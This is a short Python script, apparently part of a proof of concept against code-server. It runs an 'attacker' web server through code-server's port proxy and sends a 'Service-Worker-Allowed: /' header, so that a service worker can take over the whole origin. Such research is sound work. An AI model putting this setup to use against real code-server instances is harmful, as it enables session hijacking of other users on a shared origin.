# The attacker's own web server, started in their workspace (code-server's terminal gives them
# one) and reached through code-server's /proxy/<port>/: it serves this folder with the headers
# the attacker likes, here one letting a service worker claim the whole origin.
import http.server
import sys


class Hostile(http.server.SimpleHTTPRequestHandler):
    def end_headers(self):
        self.send_header("Service-Worker-Allowed", "/")
        self.send_header("Cache-Control", "no-store")
        super().end_headers()


if __name__ == "__main__":
    port = int(sys.argv[1])
    http.server.ThreadingHTTPServer(("127.0.0.1", port), Hostile).serve_forever()
